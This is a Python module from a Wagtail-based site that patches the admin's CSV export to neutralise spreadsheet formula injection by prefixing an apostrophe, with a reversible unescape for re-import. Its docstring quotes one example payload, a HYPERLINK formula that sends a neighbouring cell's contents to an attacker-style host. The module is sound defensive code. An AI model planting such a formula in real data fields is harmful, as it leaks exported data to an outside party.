"""Write no live spreadsheet formula into any CSV the admin exports.

Upstream gap (Wagtail 8, ``wagtail/admin/views/mixins.py``,
``SpreadsheetExportMixin``): the XLSX export turns anything that looks like a
formula back into text, but the CSV export writes cells as they are, so a
district named ``=HYPERLINK("http://evil.example/?leak="&B2,"Klik")`` or a
page titled so opens as a live formula in a spreadsheet (CSV injection). This
prefixes ``'`` wherever a spreadsheet may begin a cell with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return (OWASP's advice) in every CSV export
of the admin: the snippets' listings and Wagtail's reports. A spreadsheet may
begin a cell at the start of one, and also after a separator inside it: Danish
and Swedish Excel split a comma-separated file at every semicolon (their list
separator), quoted or not, others split at commas or tabs, and a line break
inside a cell begins a new row where quoting is not understood. (defusedcsv
checks the start of a cell only.) ``unescape`` undoes exactly these prefixes,
so an exported file imports again unchanged (``districts/importing.py``).
Delete ``apply()`` and its call in ``sciencecity.apps`` once Wagtail escapes
CSV cells itself.

Upstream: https://github.com/wagtail/wagtail/issues/3466 (Code injection vulnerability in CSV export function,
closed: XLSX became the default instead, PR #5880); PR #7554 (merged) documents CSV formula injection as the
spreadsheet's concern, not Wagtail's, so no upstream fix is planned and this is project policy.
"""

import re

from wagtail.admin.views.mixins import SpreadsheetExportMixin

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"
# Where a spreadsheet may begin a cell: the start, or after a separator or a line break. The run of
# apostrophes before a trigger gets one more, so that ``unescape`` can tell its own from the text's.
_CELL_START = r"(^|[;,\t\r\n])"
_TRIGGER = "(?=[=+\\-@\t\r])"
_UNESCAPED = re.compile(_CELL_START + "('*)" + _TRIGGER)
_ESCAPED = re.compile(_CELL_START + "'('*)" + _TRIGGER)


def escape(value):
    """The cell as written to CSV: ``'`` before every place a spreadsheet could read as the start of a formula."""
    if value is None:
        return value
    text = str(value)
    escaped = _UNESCAPED.sub(rf"\1{PREFIX}\2", text)
    return value if escaped == text else escaped


def unescape(text: str) -> str:
    """The value of a cell ``escape`` wrote: each ``'`` that ``escape`` had added removed."""
    return _ESCAPED.sub(r"\1\2", text)


_original_preprocess = SpreadsheetExportMixin.preprocess_field_value


def preprocess_field_value(view, field, value, export_format):
    """Wagtail's preprocessing, then the formula escape for CSV cells."""
    value = _original_preprocess(view, field, value, export_format)
    return escape(value) if export_format == SpreadsheetExportMixin.FORMAT_CSV else value


def apply() -> None:
    """Patch Wagtail's spreadsheet export once, at start-up."""
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
